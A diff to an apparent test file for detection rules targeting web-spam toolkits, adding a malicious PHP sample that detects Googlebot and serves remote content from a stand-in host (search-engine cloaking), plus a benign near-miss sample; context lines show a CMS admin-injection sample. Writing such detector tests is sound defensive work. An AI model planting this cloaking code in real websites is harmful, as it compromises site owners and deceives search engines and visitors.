@@ -39,6 +39,18 @@ ADMIN_INJECT_NEAR = (
     b"$pdo->exec(\"INSERT INTO users (email, role) SELECT email, 'subscriber' FROM subscribers\");\n"
 )
 
+CLOAK_UA_VAR = (
+    b"<?php\n$ua = strtolower($_SERVER['HTTP_USER_AGENT']);\n"
+    b"if (strpos($ua, 'googlebot') !== false) {\n"
+    b"  echo file_get_contents('http://links.example.invalid/get.php?d=' . $_SERVER['HTTP_HOST']);\n"
+    b"  exit;\n}\n"
+)
+CLOAK_UA_VAR_NEAR = (
+    b"<?php\n$ua = strtolower($_SERVER['HTTP_USER_AGENT']);\n"
+    b"if (strpos($ua, 'googlebot') !== false) { $cache_ttl = 3600; }\n"
+    b"$canonical = 'https://' . $_SERVER['HTTP_HOST'] . '/';\n"
+)
+
 CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_TOOLKIT_DefacementNotifier", NOTIFIER, True),
     ("SPAMGEAR_TOOLKIT_DefacementNotifier", NOTIFIER_NEAR, False),
@@ -46,4 +58,6 @@ CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_TOOLKIT_UploadTargetFromInput", UPLOAD_TARGET_NEAR, False),
     ("SPAMGEAR_TOOLKIT_CmsAdminInjector", ADMIN_INJECT, True),
     ("SPAMGEAR_TOOLKIT_CmsAdminInjector", ADMIN_INJECT_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_CrawlerCloakRemoteHost", CLOAK_UA_VAR, True),
+    ("SPAMGEAR_TOOLKIT_CrawlerCloakRemoteHost", CLOAK_UA_VAR_NEAR, False),
 ]
